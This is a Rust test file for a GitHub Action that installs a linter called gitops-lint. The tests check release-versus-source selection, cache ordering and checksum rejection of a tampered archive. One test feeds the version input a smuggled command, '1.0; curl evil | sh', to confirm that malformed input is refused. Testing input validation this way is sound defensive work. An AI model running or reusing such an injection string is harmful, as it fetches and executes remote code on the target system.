//! action.yml's install steps: the step choosing between the release archive and a build from
//! source is run with bash as the runner would (inputs through `env:`), and the cache save is
//! checked to come before linting, whatever the lint's outcome.
#![cfg(unix)]

use std::collections::HashMap;
use std::fs;
use std::path::Path;
use std::process::Command;

use serde_yaml::Value;

fn action() -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("action.yml");
    serde_yaml::from_str(&fs::read_to_string(path).unwrap()).expect("action.yml parses")
}

fn steps(action: &Value) -> Vec<Value> {
    action["runs"]["steps"]
        .as_sequence()
        .expect("composite steps")
        .clone()
}

fn step_by_id<'a>(steps: &'a [Value], id: &str) -> &'a Value {
    steps
        .iter()
        .find(|s| s["id"].as_str() == Some(id))
        .unwrap_or_else(|| panic!("no step with id {id}"))
}

/// Runs the `key` step's script with these `github.*`/`inputs.*` values; returns its exit code
/// and the outputs it wrote to $GITHUB_OUTPUT.
fn choose(ref_: &str, repository: &str, version: &str) -> (i32, HashMap<String, String>) {
    let all = steps(&action());
    let step = step_by_id(&all, "key");
    let script = step["run"].as_str().unwrap();
    let env = step["env"].as_mapping().unwrap();
    let expected_env = [
        "ACTION_PATH",
        "ACTION_REF",
        "ACTION_REPOSITORY",
        "INPUT_VERSION",
    ];
    for key in expected_env {
        assert!(
            env.contains_key(key),
            "the key step takes {key} through env:"
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let output = dir.path().join("output");
    let out = Command::new("bash")
        .arg("-c")
        .arg(script)
        .env("ACTION_PATH", env!("CARGO_MANIFEST_DIR"))
        .env("ACTION_REF", ref_)
        .env("ACTION_REPOSITORY", repository)
        .env("INPUT_VERSION", version)
        .env("GITHUB_OUTPUT", &output)
        .env("RUNNER_TEMP", dir.path())
        .env("RUNNER_OS", "Linux")
        .env("RUNNER_ARCH", "X64")
        .output()
        .unwrap();
    let text = fs::read_to_string(&output).unwrap_or_default();
    let outputs = text
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    (out.status.code().unwrap_or(-1), outputs)
}

#[test]
fn a_version_tag_downloads_its_release() {
    let (code, out) = choose("v1.2.3", "gitops-lint/gitops-lint", "");
    assert_eq!(code, 0);
    assert_eq!(out["mode"], "release");
    assert_eq!(out["version"], "1.2.3");
    assert_eq!(
        out["cache-key"],
        "gitops-lint-release-1.2.3-x86_64-unknown-linux-musl"
    );
}

#[test]
fn an_unreleased_ref_builds_from_source() {
    for ref_ in [
        "main",
        "0123456789abcdef0123456789abcdef01234567",
        "v1.2",
        "",
    ] {
        let (code, out) = choose(ref_, "gitops-lint/gitops-lint", "");
        assert_eq!(code, 0, "{ref_}");
        assert_eq!(out["mode"], "source", "{ref_}");
        assert!(out["cache-key"].starts_with("gitops-lint-source-Linux-X64-"));
        assert!(!out.contains_key("version"));
    }
    // `uses: ./` has no action repository: nothing to download from.
    let (_, out) = choose("v1.2.3", "", "");
    assert_eq!(out["mode"], "source");
}

#[test]
fn the_version_input_selects_a_release_for_a_sha_pin() {
    let sha = "0123456789abcdef0123456789abcdef01234567";
    let (code, out) = choose(sha, "gitops-lint/gitops-lint", "v2.0.1");
    assert_eq!(code, 0);
    assert_eq!(out["mode"], "release");
    assert_eq!(out["version"], "2.0.1");
    let (code, out) = choose(sha, "gitops-lint/gitops-lint", "1.0; curl evil | sh");
    assert_eq!(code, 2, "a malformed version input is an error");
    assert!(!out.contains_key("mode"));
}

#[test]
fn the_cache_is_saved_before_linting_whatever_the_outcome() {
    let all = steps(&action());
    let index = |pred: &dyn Fn(&Value) -> bool| all.iter().position(pred).unwrap();
    let uses = |s: &Value, prefix: &str| s["uses"].as_str().is_some_and(|u| u.starts_with(prefix));
    let restore = index(&|s| uses(s, "actions/cache/restore@"));
    let install = index(&|s| !s["env"]["GITOPS_LINT_VERSION"].is_null());
    let save = index(&|s| uses(s, "actions/cache/save@"));
    let lint = index(&|s| s["id"].as_str() == Some("lint"));
    assert!(restore < install && install < save && save < lint);
    // No plain actions/cache (whose post step saves only on success).
    assert!(!all.iter().any(|s| uses(s, "actions/cache@")));
    let save_if = all[save]["if"].as_str().unwrap();
    assert!(!save_if.contains("success()") && !save_if.contains("failure()"));
    let restore_key = &all[restore]["with"]["key"];
    assert_eq!(restore_key, &all[save]["with"]["key"]);
}

/// The install step as the runner runs it, with GITHUB_SERVER_URL a local directory laid out
/// like a release's download URLs: the archive installs; a changed byte in it stops the step.
#[test]
fn the_install_step_installs_from_the_release_url_and_rejects_tampering() {
    let all = steps(&action());
    let step = all
        .iter()
        .find(|s| !s["env"]["GITOPS_LINT_VERSION"].is_null())
        .expect("install step");
    let script = step["run"].as_str().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let server = dir.path().join("server");
    let release = server.join("gitops-lint/gitops-lint/releases/download/v3.4.5");
    let name = "gitops-lint-x86_64-unknown-linux-musl-v3.4.5";
    let stage = dir.path().join("stage").join(name);
    fs::create_dir_all(&stage).unwrap();
    fs::create_dir_all(&release).unwrap();
    fs::write(stage.join("gitops-lint"), "#!/bin/sh\necho from-release\n").unwrap();
    let sh = |cmd: &str| {
        let status = Command::new("bash")
            .arg("-c")
            .arg(cmd)
            .current_dir(dir.path())
            .status()
            .unwrap();
        assert!(status.success(), "{cmd}");
    };
    sh(&format!("chmod 755 stage/{name}/gitops-lint && tar -C stage -czf server/gitops-lint/gitops-lint/releases/download/v3.4.5/{name}.tgz {name}"));
    sh(&format!("cd server/gitops-lint/gitops-lint/releases/download/v3.4.5 && sha256sum {name}.tgz > {name}.tgz.sha256"));
    let run = |root: &Path| {
        Command::new("bash")
            .arg("-c")
            .arg(script)
            .env("ACTION_PATH", env!("CARGO_MANIFEST_DIR"))
            .env("GITHUB_SERVER_URL", &server)
            .env("GITOPS_LINT_REPOSITORY", "gitops-lint/gitops-lint")
            .env("GITOPS_LINT_VERSION", "3.4.5")
            .env("GITOPS_LINT_ROOT", root)
            .env("GITOPS_LINT_VERIFY_ATTESTATION", "false")
            .env("RUNNER_OS", "Linux")
            .env("RUNNER_ARCH", "X64")
            .output()
            .unwrap()
    };
    let out = run(&dir.path().join("root"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("from-release"));
    // Flip the last byte of the archive: same name, same published checksum.
    let archive = release.join(format!("{name}.tgz"));
    let mut bytes = fs::read(&archive).unwrap();
    *bytes.last_mut().unwrap() ^= 0xff;
    fs::write(&archive, bytes).unwrap();
    let out = run(&dir.path().join("root2"));
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("checksum mismatch"));
    assert!(!dir.path().join("root2/bin/gitops-lint").exists());
}
